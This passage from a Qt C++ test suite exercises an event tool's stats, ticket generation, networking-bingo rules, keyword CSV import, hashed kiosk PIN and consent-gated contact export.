    void stats_text_countsAfterScans()
    {
        const QString event = eventAfterAnEvening();
        QVERIFY(!event.isEmpty());
        const Run run = mannam({u"stats"_s, event});
        QVERIFY2(run.exitCode == 0, run.describe());
        QCOMPARE(run.out, u"Event:         AI 스터디 밋업\n"
                          "Registered:    3\n"
                          "Cancelled:     1\n"
                          "Checked in:    2\n"
                          "Inside now:    1\n"
                          "Scans:         6\n"
                          "Meetings:      0\n"
                          "Bingo winners: 0\n"_s);
    }

    void stats_doesNotChangeTheEventFile()
    {
        const QString event = eventAfterAnEvening();
        QVERIFY(!event.isEmpty());
        const QByteArray before = readBytes(event);
        QVERIFY(mannam({u"stats"_s, event}).exitCode == 0);
        QCOMPARE(readBytes(event), before);
    }

    // ---------------------------------------------------------------- tickets

    void tickets_writesPdfMailMergeAndOnePngPerAttendee()
    {
        const QString event = eventWithThreePeople();
        QVERIFY(!event.isEmpty());
        QVERIFY(importText(event, u"cancel.csv"_s, u"이름,상태\n취소한사람,취소\n"_s.toUtf8()).exitCode == 0);
        const Table attendance = exportTable(event, u"--attendance"_s);
        const QDir out(path(u"tickets/out"_s));  // created on the way

        const Run run = mannam({u"tickets"_s, event, u"--out"_s, out.path()});
        QVERIFY2(run.exitCode == 0, run.describe());
        QVERIFY2(run.out.contains(u"Wrote 3 ticket(s)"_s), run.describe());
        QVERIFY2(run.out.contains(u"Skipped 1 cancelled registration(s)."_s), run.describe());

        QVERIFY(readBytes(out.filePath(u"tickets.pdf"_s)).startsWith("%PDF-"));
        const QByteArray mailMerge = readBytes(out.filePath(u"mail-merge.csv"_s));
        QVERIFY(mailMerge.startsWith("\xEF\xBB\xBF"));
        const QList<QStringList> rows = parseCsvText(QString::fromUtf8(mailMerge.mid(3)));
        QCOMPARE(rows.size(), 4);
        QCOMPARE(rows.at(0), QStringList({u"name"_s, u"email"_s, u"ticket_code"_s, u"png_file"_s}));

        QStringList expectedPngs;
        for (int r = 0; r < attendance.rows.size(); ++r) {
            if (attendance.cell(r, u"status"_s) == u"registered")
                expectedPngs << attendance.cell(r, u"ticket_code"_s) + u".png"_s;
        }
        expectedPngs.sort();
        QCOMPARE(expectedPngs.size(), 3);
        const QStringList pngs = QDir(out.filePath(u"png"_s)).entryList(QDir::Files, QDir::Name);
        QCOMPARE(pngs, expectedPngs);
        for (const QString &png : pngs)
            QVERIFY(readBytes(out.filePath(u"png/"_s + png)).startsWith("\x89PNG\r\n\x1a\n"));
        for (int r = 1; r < rows.size(); ++r)
            QVERIFY2(QFileInfo::exists(out.filePath(rows.at(r).value(3))), qPrintable(rows.at(r).value(3)));
    }

    void tickets_unwritableOutput_exitsSix()
    {
        const QString event = eventWithThreePeople();
        QVERIFY(!event.isEmpty());
        const QString notAFolder = path(u"notes.txt"_s);
        QVERIFY(writeBytes(notAFolder, "a file where the folder should be\n"));
        const Run run = mannam({u"tickets"_s, event, u"--out"_s, notAFolder});
        QVERIFY2(run.exitCode == 6, run.describe());
        QVERIFY2(run.err.contains(notAFolder), run.describe());
        QCOMPARE(readBytes(notAFolder), QByteArray("a file where the folder should be\n"));
    }

    // ---------------------------------------------------------------- bingo

    void bingo_noOptions_printsRulesPoolAndCountsAndChangesNothing()
    {
        const QString event = eventReadyForBingo(false);
        QVERIFY(!event.isEmpty());
        const QByteArray before = readBytes(event);
        const Run run = bingo(event, {});
        QVERIFY2(run.exitCode == 0, run.describe());
        QCOMPARE(run.out, u"Event:            AI 스터디 밋업\n"
                          "Card size:        3×3 (suggested for 5 registered; fixed when the first card is dealt)\n"
                          "Lines to win:     1\n"
                          "Free centre:      on\n"
                          "Needs check-in:   on\n"
                          "Kiosk hours:      always\n"
                          "Big-screen names: full\n"
                          "Kiosk PIN:        not set\n"
                          "Keyword pool:     0 (a 3×3 card needs 8: not ready)\n"
                          "Cards dealt:      0\n"
                          "Meetings:         0\n"
                          "Winners:          0\n"_s);
        QVERIFY(run.err.isEmpty());
        QCOMPARE(readBytes(event), before);
    }

    void bingo_noOptions_countsCardsMeetingsAndWinners()
    {
        const QString event = eventWithAWinner();
        QVERIFY(!event.isEmpty());
        const Run run = bingo(event, {});
        QVERIFY2(run.exitCode == 0, run.describe());
        for (const QString &line : {u"Card size:        3×3\n"_s, u"Lines to win:     8\n"_s, u"Free centre:      off\n"_s,
                                    u"Keyword pool:     9 (a 3×3 card uses 9)\n"_s, u"Cards dealt:      4\n"_s,
                                    u"Meetings:         3\n"_s, u"Winners:          1\n"_s})
            QVERIFY2(run.out.contains(line), qPrintable(line + QString::fromUtf8(run.describe())));
        const QJsonObject stats = statsJson(event);
        QCOMPARE(stats.value(u"meetings"_s).toInt(-1), 3);
        QCOMPARE(stats.value(u"winners"_s).toInt(-1), 1);
    }

    void bingo_setRules_storedAndPrinted_data()
    {
        QTest::addColumn<QStringList>("options");
        QTest::addColumn<QStringList>("printed");
        QTest::addRow("5×5, 3 lines")
                << QStringList{u"--size"_s, u"5"_s, u"--lines"_s, u"3"_s}
                << QStringList{u"Card size:        5×5\n"_s, u"Lines to win:     3\n"_s,
                               u"Keyword pool:     25 (a 5×5 card uses 24)\n"_s};
        QTest::addRow("4×4 without a centre")
                << QStringList{u"--size"_s, u"4"_s, u"--free-centre"_s, u"off"_s}
                << QStringList{u"Card size:        4×4\n"_s, u"Free centre:      off\n"_s,
                               u"Keyword pool:     25 (a 4×4 card uses 16)\n"_s};
        QTest::addRow("free centre asked for on an even card")
                << QStringList{u"--size"_s, u"4"_s, u"--free-centre"_s, u"on"_s}
                << QStringList{u"Free centre:      on (a 4×4 card has no centre)\n"_s};
        QTest::addRow("automatic size, fixed by the first card")
                << QStringList{u"--size"_s, u"0"_s}
                << QStringList{u"Card size:        3×3 (suggested for 5 registered; fixed when the first card is dealt)\n"_s};
        QTest::addRow("kiosk hours")
                << QStringList{u"--kiosk-hours"_s, u"18:30-21:00"_s} << QStringList{u"Kiosk hours:      18:30-21:00\n"_s};
        QTest::addRow("kiosk hours past midnight, en dash, one-digit hour")
                << QStringList{u"--kiosk-hours"_s, u"22:00–2:00"_s} << QStringList{u"Kiosk hours:      22:00-02:00\n"_s};
        QTest::addRow("kiosk always open")
                << QStringList{u"--kiosk-hours"_s, u"always"_s} << QStringList{u"Kiosk hours:      always\n"_s};
        QTest::addRow("meetings without check-in")
                << QStringList{u"--needs-checkin"_s, u"off"_s} << QStringList{u"Needs check-in:   off\n"_s};
        QTest::addRow("first names on the big screen")
                << QStringList{u"--big-screen-names"_s, u"first"_s} << QStringList{u"Big-screen names: first\n"_s};
        QTest::addRow("everything at once")
                << QStringList{u"--size"_s, u"5"_s, u"--lines"_s, u"2"_s, u"--free-centre"_s, u"on"_s,
                               u"--needs-checkin"_s, u"off"_s, u"--kiosk-hours"_s, u"09:00-17:30"_s,
                               u"--big-screen-names"_s, u"first"_s}
                << QStringList{u"Card size:        5×5\n"_s, u"Lines to win:     2\n"_s, u"Free centre:      on\n"_s,
                               u"Needs check-in:   off\n"_s, u"Kiosk hours:      09:00-17:30\n"_s,
                               u"Big-screen names: first\n"_s};
    }

    void bingo_setRules_storedAndPrinted()
    {
        QFETCH(QStringList, options);
        QFETCH(QStringList, printed);
        const QString event = eventReadyForBingo(false);
        QVERIFY(!event.isEmpty());
        QVERIFY(writeBytes(path(u"pool25.csv"_s), keywordLines(numberedKeywords(25)).toUtf8()));
        const Run pool = bingo(event, {u"--keywords"_s, path(u"pool25.csv"_s)});
        QVERIFY2(pool.exitCode == 0, pool.describe());

        const Run run = bingo(event, options);
        QVERIFY2(run.exitCode == 0, run.describe());
        QVERIFY2(run.out.startsWith(u"Bingo rules saved.\n"_s), run.describe());
        // Read back by a second, read-only run: what is printed is what was stored.
        const Run shown = bingo(event, {});
        QVERIFY2(shown.exitCode == 0, shown.describe());
        for (const QString &line : printed) {
            QVERIFY2(run.out.contains(line), qPrintable(line + QString::fromUtf8(run.describe())));
            QVERIFY2(shown.out.contains(line), qPrintable(line + QString::fromUtf8(shown.describe())));
        }
        if (options.contains(u"--size"_s) && !options.contains(u"0"_s)) // a size given is fixed at once
            QVERIFY2(!shown.out.contains(u"suggested"_s), shown.describe());
        QCOMPARE(storedBingo(event).pool.size(), 25);
    }

    void bingo_optionsNotGiven_keepTheirValues()
    {
        const QString event = eventReadyForBingo(false);
        QVERIFY(!event.isEmpty());
        QVERIFY(writeBytes(path(u"pool25.csv"_s), keywordLines(numberedKeywords(25)).toUtf8()));
        const Run first = bingo(event, {u"--keywords"_s, path(u"pool25.csv"_s), u"--size"_s, u"4"_s, u"--lines"_s,
                                        u"2"_s, u"--free-centre"_s, u"off"_s, u"--needs-checkin"_s, u"off"_s,
                                        u"--kiosk-hours"_s, u"18:00-22:00"_s, u"--big-screen-names"_s, u"first"_s});
        QVERIFY2(first.exitCode == 0, first.describe());
        const StoredBingo before = storedBingo(event);

        const Run run = bingo(event, {u"--lines"_s, u"3"_s});
        QVERIFY2(run.exitCode == 0, run.describe());
        const StoredBingo after = storedBingo(event);
        QVERIFY2(after.problem.isEmpty(), qPrintable(after.problem));
        QCOMPARE(after.settings.linesToWin, 3);
        QCOMPARE(after.settings.cardSize, 4);
        QCOMPARE(after.settings.freeCentre, false);
        QCOMPARE(after.settings.meetingNeedsCheckIn, false);
        QCOMPARE(after.settings.kioskOpens, QTime(18, 0));
        QCOMPARE(after.settings.kioskCloses, QTime(22, 0));
        QCOMPARE(after.settings.bigScreenFirstNamesOnly, true);
        QCOMPARE(after.pool, before.pool);
    }

    void bingo_keywordsCsv_loadsThePool_data()
    {
        QTest::addColumn<QByteArray>("bytes");
        QTest::addColumn<QString>("read");  // encoding and header, as reported
        QTest::addColumn<QStringList>("pool");

        QStringList cp949Pool = NineKeywords;
        cp949Pool[6] = u"통계|Statistics|데이터"_s;
        cp949Pool[7] = u"오픈소스|Open Source|커뮤니티"_s;
        cp949Pool[8] = u"연구|Research|커뮤니티"_s;
        QStringEncoder toCp949("CP949");

        QTest::addRow("utf-8, header ko,en,category")
                << (u"ko,en,category\n"_s + keywordLines(NineKeywords)).toUtf8() << u"(utf-8, header row)"_s
                << NineKeywords;
        QTest::addRow("utf-8 with BOM, header 한국어,영어,분류, CRLF")
                << (u"\uFEFF한국어,영어,분류\r\n"_s + keywordLines(NineKeywords, u',', u"\r\n"_s)).toUtf8()
                << u"(utf-8, header row)"_s << NineKeywords;
        QTest::addRow("utf-8, no header")
                << keywordLines(NineKeywords).toUtf8() << u"(utf-8, no header row)"_s << NineKeywords;
        QTest::addRow("cp949 file, Korean header")
                << readBytes(test::dataPath(u"csv/bingo-keywords-cp949.csv"_s)) << u"(cp949, header row)"_s << cp949Pool;
        QTest::addRow("cp949, no header")
                << QByteArray(toCp949.encode(keywordLines(NineKeywords, u',', u"\r\n"_s))) << u"(cp949, no header row)"_s
                << NineKeywords;
        QTest::addRow("header in another order, with spaces and case")
                << (u"Category, English , KOREAN\n"_s + keywordLines([] {
                        QStringList reordered;
                        for (const QString &entry : NineKeywords) {
                            const QStringList parts = entry.split(u'|');
                            reordered << parts.at(2) + u'|' + parts.at(1) + u'|' + parts.at(0);
                        }
                        return reordered;
                    }()))
                           .toUtf8()
                << u"(utf-8, header row)"_s << NineKeywords;
        QTest::addRow("semicolons, as European Excel writes")
                << (u"ko;en;category\n"_s + keywordLines(NineKeywords, u';')).toUtf8() << u"(utf-8, header row)"_s
                << NineKeywords;
        const QStringList odd = {u"LLM|LLM|AI"_s,           u"|Kubernetes|Dev"_s,        u"통계||Data"_s,
                                 u"AI, 윤리|AI, Ethics|AI"_s, u"검색 증강 생성|RAG|"_s,      u"러스트|Rust|Dev"_s,
                                 u"파이썬|Python|Dev"_s,     u"오픈소스|Open Source|Community"_s, u"연구|Research|Community"_s};
        QTest::addRow("one language only, the same word in both, quoted commas, blank rows")
                << (u"ko,en,category\n"_s + keywordLines(odd.mid(0, 4)) + u"\n,,\n  ,  ,\n"_s + keywordLines(odd.mid(4)))
                           .toUtf8()
                << u"(utf-8, header row)"_s << odd;
        QTest::addRow("a one-column list under a 키워드 header")
                << u"키워드\nLLM\nRAG\nRust\nPython\nGo\nKubernetes\n통계\n오픈소스\n연구\n"_s.toUtf8()
                << u"(utf-8, header row)"_s
                << QStringList{u"LLM||"_s,        u"RAG||"_s,  u"Rust||"_s, u"Python||"_s, u"Go||"_s,
                               u"Kubernetes||"_s, u"통계||"_s, u"오픈소스||"_s, u"연구||"_s};
    }

    void bingo_keywordsCsv_loadsThePool()
    {
        QFETCH(QByteArray, bytes);
        QFETCH(QString, read);
        QFETCH(QStringList, pool);
        QVERIFY(!bytes.isEmpty());
        const QString event = eventReadyForBingo(false);
        QVERIFY(!event.isEmpty());
        const QString csv = path(u"keywords.csv"_s);
        QVERIFY(writeBytes(csv, bytes));

        const Run run = bingo(event, {u"--keywords"_s, csv, u"--size"_s, u"3"_s, u"--free-centre"_s, u"off"_s});
        QVERIFY2(run.exitCode == 0, run.describe());
        QVERIFY2(run.out.contains(u"Keywords loaded: 9 from "_s + csv + u' ' + read), run.describe());
        QVERIFY2(run.out.contains(u"Keyword pool:     9 (a 3×3 card uses 9)\n"_s), run.describe());
        const StoredBingo stored = storedBingo(event);
        QVERIFY2(stored.problem.isEmpty(), qPrintable(stored.problem));
        QCOMPARE(stored.pool, pool);
    }

    void bingo_badKeywordsCsv_exitsFiveAndChangesNothing_data()
    {
        QTest::addColumn<QByteArray>("bytes");  // null: no such file
        QTest::addColumn<QStringList>("messages");
        QTest::addRow("no such file") << QByteArray() << QStringList{u"Cannot read"_s};
        QTest::addRow("empty file") << QByteArray("") << QStringList{u"bingo not changed"_s, u"The file is empty"_s};
        QTest::addRow("a header and nothing else")
                << QByteArray("ko,en,category\r\n") << QStringList{u"bingo not changed"_s, u"holds no keywords"_s};
        QTest::addRow("a row without a label")
                << u"ko,en,category\nLLM,LLM,AI\n,,Dev\n"_s.toUtf8()
                << QStringList{u"bingo not changed"_s, u"Line 3: a keyword needs a Korean or an English label"_s};
        QTest::addRow("the same keyword twice, case differs")
                << u"ko,en,category\n대규모 언어 모델,LLM,AI\n러스트,Rust,Dev\n엘엘엠,llm,AI\n"_s.toUtf8()
                << QStringList{u"bingo not changed"_s, u"Line 4: the keyword “llm” is already on line 2"_s};
        QTest::addRow("one keyword's English label is another's Korean label")
                << u"한국어,영어,분류\n대규모 언어 모델,LLM,AI\nLLM,,AI\n"_s.toUtf8()
                << QStringList{u"bingo not changed"_s, u"Line 3: the keyword “LLM” is already on line 2"_s};
        QTest::addRow("four columns without a header")
                << u"LLM,LLM,AI,extra\n"_s.toUtf8() << QStringList{u"bingo not changed"_s, u"Line 1 has 4 fields"_s};
        QTest::addRow("more fields than the header")
                << u"ko,en\n대규모 언어 모델,LLM,AI\n"_s.toUtf8()
                << QStringList{u"bingo not changed"_s, u"Line 2 has 3 fields but the header has 2"_s};
        QTest::addRow("a quote never closed")
                << u"ko,en,category\n\"대규모 언어 모델,LLM,AI\n러스트,Rust,Dev\n"_s.toUtf8()
                << QStringList{u"bingo not changed"_s, u"Line 2"_s, u"never closed"_s};
        QTest::addRow("binary, neither utf-8 nor cp949")
                << QByteArray("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\xff\xff\x80\x80", 20)
                << QStringList{u"bingo not changed"_s};
    }

    void bingo_badKeywordsCsv_exitsFiveAndChangesNothing()
    {
        QFETCH(QByteArray, bytes);
        QFETCH(QStringList, messages);
        const QString event = eventReadyForBingo();
        QVERIFY(!event.isEmpty());
        const StoredBingo before = storedBingo(event);
        QCOMPARE(before.pool, NineKeywords);
        const QByteArray fileBefore = readBytes(event);
        const QString csv = path(u"bad.csv"_s);
        if (!bytes.isNull())
            QVERIFY(writeBytes(csv, bytes));

        // With other options too: nothing of them is stored either.
        const Run run = bingo(event, {u"--keywords"_s, csv, u"--lines"_s, u"2"_s, u"--pin"_s, u"2468"_s});
        QVERIFY2(run.exitCode == 5, run.describe());
        for (const QString &message : messages)
            QVERIFY2(run.err.contains(message), qPrintable(message + u"\n"_s + QString::fromUtf8(run.describe())));
        QVERIFY(run.out.isEmpty());
        const StoredBingo after = storedBingo(event);
        QCOMPARE(after.pool, before.pool);
        QCOMPARE(after.settings.linesToWin, 8);
        QVERIFY(!after.hasPin);
        QCOMPARE(readBytes(event), fileBefore);
    }

    void bingo_refusedRules_exitTwoAndChangeNothing_data()
    {
        QTest::addColumn<QStringList>("options");
        QTest::addColumn<QString>("reason");
        QTest::addRow("pool too small for the card")
                << QStringList{u"--keywords"_s, u"five.csv"_s}
                << u"A 3×3 card needs 9 keywords; the pool has 5."_s;
        QTest::addRow("card too big for the pool")
                << QStringList{u"--size"_s, u"5"_s} << u"A 5×5 card needs 25 keywords; the pool has 9."_s;
        QTest::addRow("more lines than the card has")
                << QStringList{u"--lines"_s, u"9"_s} << u"Lines to win must be between 1 and 8 on a 3×3 card."_s;
        QTest::addRow("a PIN given with refused rules is not set either")
                << QStringList{u"--size"_s, u"4"_s, u"--pin"_s, u"2468"_s}
                << u"A 4×4 card needs 16 keywords; the pool has 9."_s;
    }

    void bingo_refusedRules_exitTwoAndChangeNothing()
    {
        QFETCH(QStringList, options);
        QFETCH(QString, reason);
        const QString event = eventReadyForBingo();
        QVERIFY(!event.isEmpty());
        QVERIFY(writeBytes(path(u"five.csv"_s), keywordLines(NineKeywords.mid(0, 5)).toUtf8()));
        for (QString &option : options) {
            if (option.endsWith(u".csv"))
                option = path(option);
        }
        const StoredBingo before = storedBingo(event);
        const QByteArray fileBefore = readBytes(event);

        const Run run = bingo(event, options);
        QVERIFY2(run.exitCode == 2, run.describe());
        QVERIFY2(run.err.contains(u"Bingo not changed: "_s + reason), run.describe());
        QVERIFY(run.out.isEmpty());
        const StoredBingo after = storedBingo(event);
        QCOMPARE(after.pool, before.pool);
        QCOMPARE(after.settings.cardSize, 3);
        QCOMPARE(after.settings.linesToWin, 8);
        QVERIFY(!after.hasPin);
        QCOMPARE(readBytes(event), fileBefore);
    }

    // Once people have met, their cards stay: no new size, centre or pool. The
    // lines to win, the check-in rule and the kiosk hours still change.
    void bingo_afterMeetings_cardsFixedButLinesAndHoursChange()
    {
        const QString event = eventReadyForBingo();
        QVERIFY(!event.isEmpty());
        const Run met = mannam({u"meet"_s, event, ticketCodeOf(event, u"홍길동"_s), ticketCodeOf(event, u"Alice Park"_s)});
        QVERIFY2(met.exitCode == 0, met.describe());
        QVERIFY(writeBytes(path(u"other.csv"_s), keywordLines(numberedKeywords(25)).toUtf8()));

        const QList<QStringList> refused = {{u"--keywords"_s, path(u"other.csv"_s), u"--size"_s, u"4"_s},
                                            {u"--free-centre"_s, u"on"_s},
                                            {u"--keywords"_s, path(u"other.csv"_s)}};
        for (const QStringList &options : refused) {
            const Run run = bingo(event, options);
            QVERIFY2(run.exitCode == 2, run.describe());
            QVERIFY2(run.err.contains(u"Meetings are already recorded (1)"_s), run.describe());
        }
        StoredBingo stored = storedBingo(event);
        QCOMPARE(stored.pool, NineKeywords);
        QCOMPARE(stored.settings.cardSize, 3);
        QCOMPARE(stored.settings.freeCentre, false);
        QCOMPARE(stored.cards, 2);

        const Run allowed = bingo(event, {u"--lines"_s, u"2"_s, u"--needs-checkin"_s, u"off"_s, u"--kiosk-hours"_s,
                                          u"10:00-23:00"_s});
        QVERIFY2(allowed.exitCode == 0, allowed.describe());
        stored = storedBingo(event);
        QCOMPARE(stored.settings.linesToWin, 2);
        QCOMPARE(stored.settings.meetingNeedsCheckIn, false);
        QCOMPARE(stored.settings.kioskOpens, QTime(10, 0));
        QCOMPARE(stored.meetings, 1);
        QCOMPARE(stored.cards, 2);
    }

    void bingo_badOptionValues_exitThreeAndChangeNothing_data()
    {
        QTest::addColumn<QStringList>("options");
        QTest::addColumn<QString>("message");
        QTest::addRow("size 7") << QStringList{u"--size"_s, u"7"_s} << u"--size takes 3, 4 or 5"_s;
        QTest::addRow("size in words") << QStringList{u"--size"_s, u"big"_s} << u"--size takes 3, 4 or 5"_s;
        QTest::addRow("no lines") << QStringList{u"--lines"_s, u"0"_s} << u"--lines takes a number"_s;
        QTest::addRow("free centre maybe")
                << QStringList{u"--free-centre"_s, u"maybe"_s} << u"--free-centre takes on or off, not 'maybe'"_s;
        QTest::addRow("needs check-in yes")
                << QStringList{u"--needs-checkin"_s, u"yes"_s} << u"--needs-checkin takes on or off"_s;
        QTest::addRow("kiosk hours out of range")
                << QStringList{u"--kiosk-hours"_s, u"25:00-26:00"_s} << u"--kiosk-hours takes HH:MM-HH:MM"_s;
        QTest::addRow("kiosk hours without an end")
                << QStringList{u"--kiosk-hours"_s, u"18:00"_s} << u"--kiosk-hours takes HH:MM-HH:MM"_s;
        QTest::addRow("kiosk never open")
                << QStringList{u"--kiosk-hours"_s, u"18:00-18:00"_s} << u"would never be open"_s;
        QTest::addRow("big-screen nicknames")
                << QStringList{u"--big-screen-names"_s, u"nick"_s} << u"--big-screen-names takes full or first"_s;
        QTest::addRow("PIN with letters") << QStringList{u"--pin"_s, u"12ab"_s} << u"--pin takes 4 to 12 digits"_s;
        QTest::addRow("PIN too short") << QStringList{u"--pin"_s, u"987"_s} << u"--pin takes 4 to 12 digits"_s;
        QTest::addRow("PIN too long") << QStringList{u"--pin"_s, u"9876543210987"_s} << u"--pin takes 4 to 12 digits"_s;
        QTest::addRow("a good option next to a bad one")
                << QStringList{u"--lines"_s, u"2"_s, u"--size"_s, u"6"_s} << u"--size takes 3, 4 or 5"_s;
    }

    void bingo_badOptionValues_exitThreeAndChangeNothing()
    {
        QFETCH(QStringList, options);
        QFETCH(QString, message);
        const QString event = eventReadyForBingo();
        QVERIFY(!event.isEmpty());
        const QByteArray before = readBytes(event);
        const Run run = bingo(event, options);
        QVERIFY2(run.exitCode == 3, run.describe());
        QVERIFY2(run.err.contains(message), run.describe());
        QVERIFY2(run.err.contains(u"Usage:"_s), run.describe());
        QVERIFY(run.out.isEmpty());
        if (options.first() == u"--pin")
            QVERIFY2(!run.err.contains(options.at(1)), run.describe());  // a mistyped PIN is not echoed either
        QCOMPARE(readBytes(event), before);
        QCOMPARE(storedBingo(event).settings.linesToWin, 8);
    }

    void bingo_pin_storedHashedAndNeverPrinted()
    {
        const QString event = eventReadyForBingo();
        QVERIFY(!event.isEmpty());
        const QString pin = u"482915"_s;
        const Run run = bingo(event, {u"--pin"_s, pin});
        QVERIFY2(run.exitCode == 0, run.describe());
        QVERIFY2(run.out.startsWith(u"Kiosk PIN set (stored hashed).\n"_s), run.describe());
        QVERIFY2(run.out.contains(u"Kiosk PIN:        set\n"_s), run.describe());
        QVERIFY(!run.out.contains(pin) && !run.err.contains(pin));
        QVERIFY(!readBytes(event).contains(pin.toUtf8()));

        const StoredBingo stored = storedBingo(event, pin);
        QVERIFY(stored.hasPin);
        QVERIFY(stored.pinMatches);
        QVERIFY(!storedBingo(event, u"482916"_s).pinMatches);
        QCOMPARE(stored.settings.linesToWin, 8);  // the rules were left alone
        QCOMPARE(stored.pool, NineKeywords);
        const Run shown = bingo(event, {});
        QVERIFY2(shown.out.contains(u"Kiosk PIN:        set\n"_s) && !shown.out.contains(pin), shown.describe());
    }

    // ---------------------------------------------------------------- export --contacts

    // 홍길동 met Alice, 김민지 and Ada (eventWithAWinner); consent comes from a re-import
    // with a 정보공유동의 column: 홍길동 예, Alice yes, 김민지 아니오, Ada not mentioned.
    void export_contacts_onlyPairsWhoBothConsented()
    {
        const QString event = eventWithAWinner();
        QVERIFY(!event.isEmpty());
        const Run consent = importText(event, u"consent.csv"_s,
                                       u"이름,이메일,정보공유동의\n홍길동,hong@example.org,예\n"
                                       "Alice Park,alice@example.org,yes\n김민지,minji@example.org,아니오\n"_s.toUtf8());
        QVERIFY2(consent.exitCode == 0, consent.describe());

        const QString out = path(u"contacts.csv"_s);
        const Run run = mannam({u"export"_s, event, u"--contacts"_s, out});
        QVERIFY2(run.exitCode == 0 && run.out.contains(u"Wrote "_s + out), run.describe());
        const Table table = exportTable(event, u"--contacts"_s);
        QVERIFY2(table.problem.isEmpty(), qPrintable(table.problem));
        QCOMPARE(table.header, QStringList({u"met_at"_s, u"a_name"_s, u"a_affiliation"_s, u"a_email"_s,
                                            u"a_phone"_s, u"b_name"_s, u"b_affiliation"_s, u"b_email"_s,
                                            u"b_phone"_s}));
        QCOMPARE(table.rows.size(), 1);
        QCOMPARE(table.cell(0, u"a_name"_s), u"홍길동"_s);
        QCOMPARE(table.cell(0, u"a_affiliation"_s), u"만남, 커뮤니티"_s);
        QCOMPARE(table.cell(0, u"a_email"_s), u"hong@example.org"_s);
        QCOMPARE(table.cell(0, u"b_name"_s), u"Alice Park"_s);
        QCOMPARE(table.cell(0, u"b_affiliation"_s), u"Analytical Engines"_s);
        QCOMPARE(table.cell(0, u"b_email"_s), u"alice@example.org"_s);
        QVERIFY2(LocalIso.match(table.cell(0, u"met_at"_s)).hasMatch(), qPrintable(table.cell(0, u"met_at"_s)));
        QCOMPARE(table.cell(0, u"met_at"_s), exportTable(event, u"--meetings"_s).cell(0, u"time"_s));
        // 김민지 said no, Ada never said yes: neither appears anywhere.
        const QString text = QString::fromUtf8(table.bytes);
        QVERIFY(!text.contains(u"김민지"_s) && !text.contains(u"minji"_s));
        QVERIFY(!text.contains(u"Ada"_s));
    }

    void export_contacts_nobodyConsented_headerOnly()
    {
        const QString event = eventWithAWinner();
        QVERIFY(!event.isEmpty());
        const Table table = exportTable(event, u"--contacts"_s);
        QVERIFY2(table.problem.isEmpty(), qPrintable(table.problem));
        QCOMPARE(table.header.size(), 9);
        QCOMPARE(table.rows.size(), 0);
    }

    void export_contacts_missingEventFile_exitsFour()
    {
        const Run run = mannam({u"export"_s, path(u"nowhere.mannam"_s), u"--contacts"_s, path(u"out.csv"_s)});
        QVERIFY2(run.exitCode == 4, run.describe());
        QVERIFY(!QFileInfo::exists(path(u"out.csv"_s)));
    }

    // ---------------------------------------------------------------- meet

    void meet_recorded_namesBothPeopleAndTheSquaresFilled()
    {
        const QString event = eventReadyForBingo();
        QVERIFY(!event.isEmpty());
        const Run run = mannam({u"meet"_s, event, ticketCodeOf(event, u"홍길동"_s),
                                storedAttendee(event, u"Alice Park"_s).badgeCode, u"--kiosk"_s, u"Kiosk 1"_s});
        QVERIFY2(run.exitCode == 0, run.describe());
        // Alice's rag, 컴퓨터 비전 and python fill 3 of his squares; his LLM and 러스트 2 of hers.
        // Whether his 3 squares happen to make a line depends on the event's random deal.
        static const QRegularExpression expected(
                u"^Recorded: 홍길동 ↔ Alice Park \\(3 \\+ 2 squares filled\\)\n"
                "  홍길동: 3/9 squares filled, lines: [01], people met: 1\n"
                "  Alice Park: 2/9 squares filled, lines: 0, people met: 1\n$"_s);
        QVERIFY2(expected.match(run.out).hasMatch(), run.describe());
        QVERIFY(run.err.isEmpty());
        const StoredBingo stored = storedBingo(event);
        QCOMPARE(stored.meetings, 1);
        QCOMPARE(stored.cards, 2);
        QCOMPARE(exportTable(event, u"--meetings"_s).cell(0, u"kiosk"_s), u"Kiosk 1"_s);
    }

    void meet_withoutKiosk_recordsCli()
    {
        const QString event = eventReadyForBingo();
        QVERIFY(!event.isEmpty());
        const Run run = mannam({u"meet"_s, event, ticketCodeOf(event, u"김민지"_s), ticketCodeOf(event, u"Ada Lovelace"_s)});
        QVERIFY2(run.exitCode == 0, run.describe());
        QVERIFY2(run.out.startsWith(u"Recorded: 김민지 ↔ Ada Lovelace ("_s), run.describe());
        QCOMPARE(exportTable(event, u"--meetings"_s).cell(0, u"kiosk"_s), u"CLI"_s);
    }

    void meet_refused_exitsTwoWithTheReason_data()
    {
        QTest::addColumn<QString>("kind");
        QTest::addColumn<QString>("reason");
        QTest::addRow("same person twice (ticket and badge)")
                << u"samePerson"_s << u"That is the same person twice."_s;
        QTest::addRow("already met, badges in the other order") << u"alreadyMet"_s << u"You two already met at "_s;
        QTest::addRow("not checked in") << u"notCheckedIn"_s << u"지각생 has not checked in at the door yet."_s;
        QTest::addRow("cancelled") << u"cancelled"_s << u"The registration of 취소한사람 is cancelled."_s;
        QTest::addRow("unknown code") << u"unknown"_s << u"This code is not registered for this event."_s;
        QTest::addRow("misread code") << u"misread"_s << u"This code was not read correctly."_s;
        QTest::addRow("kiosk closed") << u"kioskClosed"_s << u"The bingo is open from "_s;
        QTest::addRow("no keyword pool yet") << u"notSetUp"_s << u"The bingo is not set up yet"_s;
    }

    void meet_refused_exitsTwoWithTheReason()
    {
        QFETCH(QString, kind);
        QFETCH(QString, reason);
        const QString event = eventReadyForBingo(kind != u"notSetUp");
        QVERIFY(!event.isEmpty());
        const QString hong = ticketCodeOf(event, u"홍길동"_s);
        const QString alice = ticketCodeOf(event, u"Alice Park"_s);
        QString a = hong;
        QString b = alice;
        QString firstMeetingClock;
        if (kind == u"samePerson") {
            b = storedAttendee(event, u"홍길동"_s).badgeCode;
        } else if (kind == u"alreadyMet") {
            const Run first = mannam({u"meet"_s, event, hong, alice, u"--kiosk"_s, u"Kiosk 1"_s});
            QVERIFY2(first.exitCode == 0, first.describe());
            firstMeetingClock = clockOf(exportTable(event, u"--meetings"_s).cell(0, u"time"_s));
            a = storedAttendee(event, u"Alice Park"_s).badgeCode;
            b = storedAttendee(event, u"홍길동"_s).badgeCode;
        } else if (kind == u"notCheckedIn") {
            b = ticketCodeOf(event, u"지각생"_s);
        } else if (kind == u"cancelled") {
            a = ticketCodeOf(event, u"취소한사람"_s);
        } else if (kind == u"unknown") {
            b = TicketCode::generate(hong.left(TicketCode::TagLength), {});
        } else if (kind == u"misread") {
            b.back() = QChar(u'0' + (b.back().digitValue() + 1) % 10);
        } else if (kind == u"kioskClosed") {
            const QString opens = seoulClock(2);
            const Run hours = bingo(event, {u"--kiosk-hours"_s, opens + u'-' + seoulClock(3)});
